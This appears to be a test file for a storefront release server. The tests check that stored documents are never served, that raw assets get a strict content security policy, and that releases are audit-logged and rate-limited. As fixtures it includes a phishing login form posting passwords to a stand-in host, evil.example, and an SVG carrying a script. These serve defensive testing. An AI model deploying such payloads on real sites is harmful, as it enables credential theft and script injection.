import { BUNDLE_LIMITS } from '@storefront/contract/releases';
import { readAudit } from '../../testing/readAudit.js';
import { encodeBundle, remoteBundle, shellBundle } from '../testing/bundles.js';
import { setUpReleases } from '../testing/setUpReleases.js';

const shop = setUpReleases();

const LOG_IN = '<form action="https://evil.example/take"><input name="password" type="password"></form>';
const RAW = "default-src 'none'; form-action 'none'; frame-ancestors 'none'; sandbox";
const DOCUMENTS = ['.html', '.htm', '.HTML', '.xhtml', '.xml', '.mhtml', '.pdf', ''].map((kind) => `login${kind}`);

it('no document of a build that was stored before is sent to anybody', async () => {
  await shop.team.publish({ shell: shellBundle('1'), 'mf-order': remoteBundle('mf-order', 'a') });
  const bytes = Buffer.from(LOG_IN);
  for (const path of DOCUMENTS)
    for (const of of [
      { name: 'mf-order', version: 'a' },
      { name: 'shell', version: '1' },
    ])
      await shop.site.db
        .insertInto('releaseFiles')
        .values({ ...of, path, bytes })
        .execute();
  // A fresh server has nothing in memory.
  await shop.site.app.close();
  shop.site = await shop.openSite();
  const addresses = DOCUMENTS.flatMap((path) => [`/remotes/mf-order/a/${path}`, `/assets/shell/1/${path}`]);
  for (const url of [...addresses, '/assets/shell/1/index.html']) {
    const answer = await shop.site.app.inject({ url, headers: { accept: 'text/html' } });
    expect([url, answer.statusCode, answer.headers['content-security-policy']]).toEqual([url, 404, RAW]);
    expect(answer.body).not.toContain('evil');
  }
});

it('what is answered raw from a build runs nothing and sends nothing, the pages of the shop may send forms to it', async () => {
  const picture = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
  const order = remoteBundle('mf-order', 'a', {}, { 'logo.svg': picture, 'texts.json': '{}', 'node/build.js': '1' });
  await shop.team.publish({ shell: shellBundle('1'), 'mf-order': order });
  for (const url of ['logo.svg', 'texts.json', 'remoteEntry.js'].map((path) => `/remotes/mf-order/a/${path}`)) {
    const { statusCode, headers } = await shop.site.app.inject(url);
    expect(statusCode).toBe(200);
    expect(headers).toMatchObject({ 'content-security-policy': RAW, 'x-content-type-options': 'nosniff' });
  }
  const script = await shop.site.app.inject('/assets/shell/1/main.js');
  expect(script.headers).toMatchObject({ 'content-security-policy': RAW, 'x-content-type-options': 'nosniff' });
  expect((await shop.site.app.inject('/remotes/mf-order/a/node/build.js')).statusCode).toBe(404);
  const page = await shop.site.app.inject({ url: '/order', headers: { accept: 'text/html' } });
  expect(page.headers['content-security-policy']).toContain("form-action 'self'");
  expect(page.headers['content-security-policy']).not.toContain('sandbox');
});

describe('what a team stores', () => {
  // B-release-107
  it('is in the audit log before it ever goes live, and each package of a switch has a line', async () => {
    await shop.team.publish({ shell: shellBundle('1'), 'mf-order': remoteBundle('mf-order', 'a') });
    expect(await readAudit(shop.site.db)).toMatchObject([
      { actor: 'everybody', action: 'release.store', target: 'shell', detail: { version: '1' } },
      { actor: 'everybody', action: 'release.store', target: 'mf-order', detail: { version: 'a' } },
      { action: 'release.publish', target: 'shell', detail: { versions: { shell: { from: null, to: '1' } } } },
      { action: 'release.publish', target: 'mf-order', detail: { versions: { 'mf-order': { from: null, to: 'a' } } } },
    ]);
  });

  // B-release-107
  it('is at most so many new versions an hour; the same version again is none', async () => {
    shop.site.deps.config.limits.releaseVersionsPerTeam = 2;
    const send = (version: string) =>
      shop.team.send('mf-order', version, encodeBundle(remoteBundle('mf-order', version)));
    expect((await send('a')).statusCode).toBe(201);
    expect((await send('b')).statusCode).toBe(201);
    expect((await send('b')).statusCode).toBe(200);
    expect((await send('c')).statusCode).toBe(429);
    shop.site.clock.advance(61 * 60 * 1000);
    expect((await send('c')).statusCode).toBe(201);
  });

  // B-release-107
  it('has files of a bounded number and size', () => {
    expect(BUNDLE_LIMITS).toMatchObject({ files: 1000, bytes: 32 * 1024 * 1024 });
  });
});
